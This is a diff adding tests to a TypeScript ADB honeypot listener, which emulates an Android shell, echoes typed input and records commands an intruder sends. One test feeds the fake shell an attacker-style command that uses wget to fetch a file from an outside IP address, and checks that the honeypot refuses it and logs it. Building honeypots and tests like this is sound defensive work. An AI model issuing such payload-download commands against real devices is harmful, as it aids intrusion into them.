@@ -1,7 +1,22 @@
 import assert from 'node:assert/strict';
 import { connect, type Server } from 'node:net';
 import { describe, it, type TestContext } from 'node:test';
-import { A_CNXN, A_VERSION, encodeAdb, readAdb } from '../modules/sensor/adb-protocol.ts';
+import {
+  A_CLSE,
+  A_CNXN,
+  A_OPEN,
+  A_VERSION,
+  A_WRTE,
+  encodeAdb,
+  encodeShellPacket,
+  readAdb,
+  readShellPacket,
+  SHELL_CLOSE_STDIN,
+  SHELL_EXIT,
+  SHELL_STDERR,
+  SHELL_STDIN,
+  SHELL_STDOUT,
+} from '../modules/sensor/adb-protocol.ts';
 import { type AdbListenerConfig, parseSensorConfig } from '../modules/sensor/sensor-config.ts';
 import type { Captured } from '../modules/sensor/sensor-records.ts';
 import { AdbHoneypot } from './adb-listener.ts';
@@ -66,4 +81,57 @@ describe('the ADB honeypot listener', () => {
     assert.equal(r.kind === 'message' && r.message.command, A_CNXN);
     assert.equal(records.length, 0);
   });
+
+  it('should give the old shell: service a pty (echo, prompt, \\r\\n) and record each line as typed', async (t) => {
+    const { port, records } = await listener(t);
+    const bytes = Buffer.concat([
+      encodeAdb(A_CNXN, A_VERSION, 4096, Buffer.from('host::\0')),
+      encodeAdb(A_OPEN, 5, 0, Buffer.from('shell:\0')),
+      encodeAdb(A_WRTE, 5, 1, Buffer.from('ech\x7fho x\r')),
+      encodeAdb(A_WRTE, 5, 1, Buffer.from('exit\r')),
+    ]);
+    const { data } = await exchange(port, bytes);
+    const out = messages(data)
+      .filter((m) => m.command === A_WRTE)
+      .map((m) => m.data.toString('latin1'))
+      .join('');
+    assert.equal(out, 'starlte:/ $ ech\b \bho x\r\nx\r\nstarlte:/ $ exit\r\n');
+    assert.equal(messages(data).at(-1)?.command, A_CLSE);
+    assert.deepEqual(
+      records.map((r) => Buffer.from((r.record as { command: string }).command, 'base64').toString()),
+      ['echo x', 'exit'],
+    );
+  });
+
+  it('should run a piped script over the shell protocol: stdout and stderr apart, a last line without \\n, the last status', async (t) => {
+    const { port, records } = await listener(t);
+    const bytes = Buffer.concat([
+      encodeAdb(A_CNXN, A_VERSION, 4096, Buffer.from('host::\0')),
+      encodeAdb(A_OPEN, 5, 0, Buffer.from('shell,v2,raw:\0')),
+      encodeAdb(A_WRTE, 5, 1, encodeShellPacket(SHELL_STDIN, Buffer.from('echo a\nwget http://198.51.100.7/x'))),
+      encodeAdb(A_WRTE, 5, 1, encodeShellPacket(SHELL_CLOSE_STDIN, Buffer.alloc(0))),
+    ]);
+    const { data } = await exchange(port, bytes);
+    const packets = messages(data)
+      .filter((m) => m.command === A_WRTE)
+      .map((m) => readShellPacket(m.data))
+      .map((p) => (p.kind === 'packet' ? [p.id, p.data.toString('latin1')] : ['bad']));
+    assert.deepEqual(packets, [
+      [SHELL_STDOUT, 'a\n'],
+      [SHELL_STDERR, '/system/bin/sh: wget: not found\n'],
+      [SHELL_EXIT, '\x7f'],
+    ]);
+    assert.equal(records.length, 2);
+  });
 });
+
+/** Every ADB message in `data`, in order. */
+function messages(data: Buffer) {
+  const out = [];
+  for (let rest = data; ; ) {
+    const r = readAdb(rest);
+    if (r.kind !== 'message') return out;
+    out.push(r.message);
+    rest = rest.subarray(r.used);
+  }
+}
